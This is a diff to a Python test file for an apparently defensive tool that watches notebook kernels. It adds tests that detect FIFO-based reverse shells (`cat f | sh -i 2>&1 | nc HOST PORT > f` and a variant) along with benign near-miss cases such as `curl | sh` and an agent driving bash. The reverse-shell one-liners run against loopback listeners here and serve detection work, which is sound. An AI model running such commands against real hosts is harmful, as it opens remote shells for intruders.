@@ -21,10 +21,13 @@ Found and fixed:
   The sampler marks a program file in the system's folders written since the kernel's session
   began (`exe:new`, its inode's ctime) or with a mount on its path (`exe:mounted`), and the
   engine judges it as any other program.
-
-Left (strict xfail): the classic FIFO reverse shell from a script file (`cat f | sh -i 2>&1 |
-nc HOST PORT > f`): the shell's streams are pipes, nc holds the connection, no command line
-names a shell served to the network.
+- The classic FIFO reverse shell from a script file (`cat f | sh -i 2>&1 | nc HOST PORT > f`):
+  the shell's streams are pipes, nc holds the connection, no command line names a shell served
+  to the network. The sampler follows a shell's piped streams through the pipes and FIFOs of
+  its kernel's tree (observe/pipes.py): a loop back to its stdin through a process holding a
+  connection names that process (`stream_relay`, remote-reverse-shell). Near-misses: `curl |
+  sh`, a shell's output shipped by nc or curl, `python train.py | tee log`, a loop of pipes
+  through no connection, an agent driving the bash it started.
 """
 
 from __future__ import annotations
@@ -47,6 +50,9 @@ from colab_guard.detect.commands import network_redirects
 from colab_guard.detect.engine import Engine
 from colab_guard.detect.signatures import load_signatures
 from colab_guard.observe.processes import ProcessSampler
+from colab_guard.observe.model import Snapshot
+from tests.harness import wait_until
+from tests.test_sampler_spread import SpreadingSampler, many  # noqa: F401
 from tests.test_shell_streams import _wait_for, bash_cell_connected, listener  # noqa: F401
 
 RULES = load_signatures()
@@ -418,8 +424,8 @@ def test_man_with_cat_as_its_pager_is_left_alone():
 
 
 @contextmanager
-def _slow_web_server():
-    """A loopback HTTP server that sends its headers, then holds the body back."""
+def _slow_web_server(body: bytes = b"id,loss\n"):
+    """A loopback HTTP server that sends its headers and ``body``, then holds the rest back."""
     server = socket.create_server(("127.0.0.1", 0))
     server.settimeout(20)
     held: list[socket.socket] = []
@@ -430,7 +436,7 @@ def _slow_web_server():
         except OSError:
             return
         conn.recv(4096)
-        conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 100000\r\n\r\nid,loss\n")
+        conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 100000\r\n\r\n" + body)
         held.append(conn)
     thread = threading.Thread(target=serve, daemon=True)
     thread.start()
@@ -465,14 +471,23 @@ def test_awk_over_a_csv_is_left_alone(tmp_path):
         assert _tree_detections(kernel.pid) == set()
 
 
-# ---------------------------------------------------------------- left
+# ---------------------------------------------------------------- a shell in a loop of pipes
 
-@pytest.mark.xfail(strict=True, reason=(
-    "the FIFO reverse shell (`mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT > f`) from a script "
-    "file: sh's streams are pipes, nc holds the connection and runs no shell, and the script "
-    "file's text is not read for shells; telling it needs which process holds the other end of "
-    "a shell's pipes, which no field shows"))
+def _loop_ticks(root: int, ticks: int = 6) -> tuple[set[tuple[str, str, str]], dict[str, str]]:
+    """Over a few ticks of ``root``'s tree: (signature, category, command line) of every
+    detection, and each process's stream relay at the last tick, by its command line."""
+    sampler, engine, found = ProcessSampler(), Engine(RULES), set()
+    for _ in range(ticks):
+        snapshot = sampler.sample({"k": root})["k"]
+        found |= {(d.signature.id, d.signature.category, " ".join(d.process.cmdline))
+                  for d in engine.evaluate(snapshot)}
+        time.sleep(0.1)  # the next tick
+    return found, {" ".join(p.cmdline): p.stream_relay for p in snapshot.processes}
+
+
 def test_a_fifo_reverse_shell_from_a_script_file_is_recognised(listener, tmp_path):
+    """`cat f | sh -i 2>&1 | nc HOST PORT > f` from a script file: sh's output is nc's input,
+    nc writes what the connection brings into f, cat feeds f to sh (stream_relay: nc)."""
     fifo, script = tmp_path / "f", tmp_path / "rev.sh"
     script.write_text(f"mkfifo {fifo}; cat {fifo} | sh -i 2>&1 | nc 127.0.0.1 \"$1\" > {fifo}\n")
     with _group(["sh", str(script), str(listener.port)],
@@ -480,4 +495,130 @@ def test_a_fifo_reverse_shell_from_a_script_file_is_recognised(listener, tmp_pat
         listener.accept_one()
         _wait_for(ProcessSampler(), started.pid,
                   lambda p: p.name.startswith("nc") and p.sockets)
-        assert "remote-reverse-shell" in {sig for sig, _ in _tree_detections(started.pid)}
+        found, relays = _loop_ticks(started.pid)
+        assert relays["sh -i"].startswith("nc")
+        assert ("remote-reverse-shell", "remote-access", "sh -i") in found
+
+
+def test_a_shell_reading_a_fifo_its_relay_writes_is_recognised(listener, tmp_path):
+    """The loop with one process less: `sh -i < f 2>&1 | nc HOST PORT > f` (a FIFO on sh's
+    stdin itself, nc's stdout)."""
+    fifo = tmp_path / "f"
+    os.mkfifo(fifo)
+    line = f"sh -i < {fifo} 2>&1 | nc 127.0.0.1 {listener.port} > {fifo}"
+    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL) as started:
+        listener.accept_one()
+        _wait_for(ProcessSampler(), started.pid,
+                  lambda p: p.name.startswith("nc") and p.sockets)
+        found, relays = _loop_ticks(started.pid)
+        assert relays["sh -i"].startswith("nc")
+        assert ("remote-reverse-shell", "remote-access", "sh -i") in found
+
+
+def test_a_parked_shell_whose_loop_closes_later_is_recognised(many, tmp_path):
+    """With many processes (quiet ones parked, handed out as they were): the shell waits,
+    parked, on its pipes; nc starts later and closes the loop, its server silent (the shell
+    does not run again). The shell is visited again and given its relay. (`sleep`: one more
+    process, so that the tree counts as many.)"""
+    f, g, go = (tmp_path / name for name in ("f", "g", "go"))
+    for fifo in (f, g, go):
+        os.mkfifo(fifo)
+    with socket.create_server(("127.0.0.1", 0)) as silent, \
+            _group(["bash", "-c", f"sleep 60 & cat {f} | sh -i 2>&1 | cat > {g} & read _ < {go}; "
+                    f"nc 127.0.0.1 {silent.getsockname()[1]} < {g} > {f}"],
+                   stdout=subprocess.DEVNULL) as kernel:
+        sampler, engine = SpreadingSampler(), Engine(RULES)
+
+        def tick() -> tuple[Snapshot, set[str]]:
+            snapshot = sampler.sample({"k": kernel.pid})["k"]
+            return snapshot, {" ".join(d.process.cmdline) for d in engine.evaluate(snapshot)
+                              if d.signature.id == "remote-reverse-shell"}
+        parked = lambda snap: any(p.cmdline == ["sh", "-i"]  # noqa: E731
+                                  for p in snap.processes[len(snap.processes) - snap.parked:])
+        wait_until(lambda: parked(tick()[0]), timeout=30, what="the shell parked")
+        with open(go, "w") as trigger:
+            trigger.write("go\n")
+        wait_until(lambda: "sh -i" in tick()[1], timeout=20, what="the shell recognised")
+
+
+# Near-misses: a shell with pipes on its streams beside a connection, and no loop through it.
+
+def test_an_install_script_piped_from_curl_into_sh_is_left_alone():
+    """`curl -fsSL URL | sh`: curl holds the connection and feeds sh, sh's output goes to the
+    kernel (nothing brings it back to sh). `-N`: curl passes the script on as it comes, while
+    it still holds the connection."""
+    with _slow_web_server(b"echo installing; sleep 30\n") as port, \
+            _group(["bash", "-c", f"curl -fsSLN http://127.0.0.1:{port}/install.sh | sh; :"],
+                   stdout=subprocess.DEVNULL) as kernel:
+        _wait_for(ProcessSampler(), kernel.pid, lambda p: p.cmdline[:1] == ["sleep"])
+        _wait_for(ProcessSampler(), kernel.pid, lambda p: p.name == "curl" and p.sockets)
+        found, relays = _loop_ticks(kernel.pid)
+        assert relays["sh"] == "" and found == set()
+
+
+@pytest.mark.parametrize("shipper", [
+    pytest.param("nc 127.0.0.1 {port}", id="nc"),
+    pytest.param("curl -sT - http://127.0.0.1:{port}/build.log", id="curl-upload"),
+])
+def test_a_shell_whose_output_is_shipped_to_a_collector_is_left_alone(shipper):
+    """`(echo make; …) | sh 2>&1 | nc HOST PORT`: the shell's output is read by a process
+    holding a connection, but its input comes from elsewhere (no loop). The collector says
+    nothing (its backlog completes the connections: curl waits to send its upload)."""
+    with socket.create_server(("127.0.0.1", 0)) as collector, \
+            _group(["bash", "-c", f"(echo 'make -v'; sleep 30) | sh 2>&1 | "
+                    f"{shipper.format(port=collector.getsockname()[1])}; :"],
+                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as kernel:
+        _wait_for(ProcessSampler(), kernel.pid,
+                  lambda p: p.name in ("nc", "curl") and p.sockets)
+        found, relays = _loop_ticks(kernel.pid)
+        assert relays["sh"] == "" and found == set()
+
+
+def test_training_output_teed_to_a_log_is_left_alone(listener, tmp_path):
+    """`python train.py 2>&1 | tee log`, the script holding a connection (its data)."""
+    train = tmp_path / "train.py"
+    train.write_text("import socket, sys, time\n"
+                     "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
+                     "print('epoch 1', flush=True)\n"
+                     "time.sleep(30)\n")
+    line = f"{sys.executable} {train} {listener.port} 2>&1 | tee {tmp_path / 'log'}; :"
+    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL) as kernel:
+        listener.accept_one()
+        _wait_for(ProcessSampler(), kernel.pid,
+                  lambda p: p.name.startswith("python") and p.sockets)
+        found, relays = _loop_ticks(kernel.pid)
+        assert set(relays.values()) == {""} and found == set()
+
+
+def test_a_shell_in_a_loop_of_pipes_holding_no_connection_is_left_alone(listener, tmp_path):
+    """`cat f | sh | cat > f` beside a process holding a connection: the loop passes
+    through no process that holds one."""
+    fifo = tmp_path / "f"
+    os.mkfifo(fifo)
+    line = (f"cat {fifo} | sh | cat > {fifo} & "
+            f"exec 3<>/dev/tcp/127.0.0.1/{listener.port}; sleep 30")
+    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL) as kernel:
+        listener.accept_one()
+        _wait_for(ProcessSampler(), kernel.pid,
+                  lambda p: p.name == "sleep" and p.sockets)
+        found, relays = _loop_ticks(kernel.pid)
+        assert relays["sh"] == "" and found == set()
+
+
+def test_a_program_driving_a_shell_it_started_is_left_alone(listener):
+    """An agent: a Python program holding a connection (its model's API) that writes
+    commands to a bash it started and reads its output (a loop, through the shell's parent)."""
+    agent = (
+        "import socket, subprocess, sys, time\n"
+        f"s = socket.create_connection(('127.0.0.1', {listener.port}))\n"
+        "bash = subprocess.Popen(['bash'], stdin=subprocess.PIPE, stdout=subprocess.PIPE,\n"
+        "                        stderr=subprocess.STDOUT)\n"
+        "bash.stdin.write(b'echo ready\\n'); bash.stdin.flush()\n"
+        "bash.stdout.readline()\n"
+        "time.sleep(30)\n")
+    with _group(["bash", "-c", f"{sys.executable} -c \"$0\"; :", agent]) as kernel:
+        listener.accept_one()
+        _wait_for(ProcessSampler(), kernel.pid,
+                  lambda p: p.cmdline == ["bash"])
+        found, relays = _loop_ticks(kernel.pid)
+        assert relays["bash"] == "" and found == set()
